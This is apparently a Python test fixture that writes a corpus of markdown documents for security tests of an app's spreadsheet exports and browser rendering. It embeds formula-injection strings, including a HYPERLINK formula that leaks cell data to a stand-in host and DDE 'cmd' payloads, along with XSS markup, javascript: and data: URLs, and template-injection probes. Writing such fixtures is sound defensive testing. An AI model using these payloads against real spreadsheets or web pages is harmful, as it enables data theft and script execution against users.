"""A corpus written by an attacker: formula cells for the exports, markup and scripts for the browser.

Used by tests/test_export_safety.py, tests/app/test_security_browser.py and tests/app/test_paths.py.
Every place a document can put text -- file name, title, page and article links, keywords, themes,
Other attributes, summary, table cells, unknown section names, Closest links -- carries a payload.
"""

from __future__ import annotations

from pathlib import Path

#: Text a spreadsheet would run: each starts with one of export.FORMULA_PREFIXES (after trimming).
FORMULAS = (
    '=HYPERLINK("https://evil.test/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-1",
    "+1",
    "@",
)

#: Markup that must show as typed: never run, never become an element or a link.
MARKUP = (
    "<script>window.__pwned = 'script'; alert('script')</script>",
    "<img src=x onerror=\"window.__pwned='img'; alert('img')\">",
    "<iframe src=\"javascript:window.parent.__pwned='iframe'\"></iframe>",
    "<svg onload=\"window.__pwned='svg'\"><a href=\"javascript:alert(1)\">svg link</a></svg>",
    "[click me](javascript:window.__pwned='link')",
    "<a href=\"javascript:window.__pwned='anchor'\">anchor</a>",
    "<a href='mailto:victim@evil.test'>mail me</a>",
    "<a href='https://evil.test/phish'>phish</a>",
    "**bold** _emph_ `code` $x^2$ :red[red] <b>bold tag</b>",
    "![tracker](https://evil.test/pixel.png)",
    "{{7*7}} ${7*7} <% 7*7 %>",
)

#: Link targets for page_url / article_url / Closest: only the https one may become a link.
URLS = (
    "javascript:window.__pwned='url'",
    "JaVaScRiPt:window.__pwned='url-case'",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.test/protocol-relative",
    "https://ok.test/page",
)

#: Names that make hostile file names (doc_id and path columns).
FILE_NAMES = ("=cmd", "+sum", "-minus", "@at", "<script>alert(1)<", "plain")

PAYLOADS = FORMULAS + MARKUP


def _cell(text: str) -> str:
    return text.replace("|", "\\|")


def _document(k: int, page_url: str, article_url: str) -> str:
    payload = PAYLOADS[k % len(PAYLOADS)]
    other = PAYLOADS[(k + 3) % len(PAYLOADS)]
    formula = FORMULAS[k % len(FORMULAS)]
    markup = MARKUP[k % len(MARKUP)]
    rows = "\n".join(
        f"| {_cell(PAYLOADS[(k + j) % len(PAYLOADS)])} | {_cell(PAYLOADS[(k + j + 5) % len(PAYLOADS)])} | "
        f"{_cell(FORMULAS[(k + j) % len(FORMULAS)])} | {_cell(MARKUP[(k + j) % len(MARKUP)])} | {j % 5 + 1} |"
        for j in range(4)
    )
    themes = "\n".join(f"* {t}" for t in (formula, markup, "Shared theme", MARKUP[(k + 1) % len(MARKUP)]))
    return f"""\
# __{payload}__, (from page [2024{k % 12 + 1:02d}{k % 27 + 1:02d}]({page_url}).)

__[External link]({article_url})__

## Keywords

* {formula}
* {markup}
* shared keyword

## Themes

{themes}

## Other

* Category: {formula if k % 2 else markup}
* Type: {markup if k % 2 else formula}
* Note: {other}

## Summary

{markup}
{formula}
A line of plain text.

## Signals

| name | description | change | 10-year | relevancy |
|---|---|---|---|---|
{rows}

## {markup}

| name | description | relevancy |
|---|---|---|
| {_cell(formula)} | {_cell(markup)} | 3 |

## Closest

* [{markup}]({URLS[k % len(URLS)]})
* [{formula}](plain-{(k + 1) % 12})
"""


def write_hostile_corpus(folder: Path, documents: int = 12) -> Path:
    """Write `documents` hostile documents (and their formula-named siblings) into folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for k in range(documents):
        name = f"{FILE_NAMES[k % len(FILE_NAMES)]}-{k}" if k % len(FILE_NAMES) != len(FILE_NAMES) - 1 else f"plain-{k}"
        page_url = URLS[k % len(URLS)]
        article_url = URLS[(k + 2) % len(URLS)]
        (folder / f"{name}.md").write_text(_document(k, page_url, article_url), encoding="utf-8")
    return folder
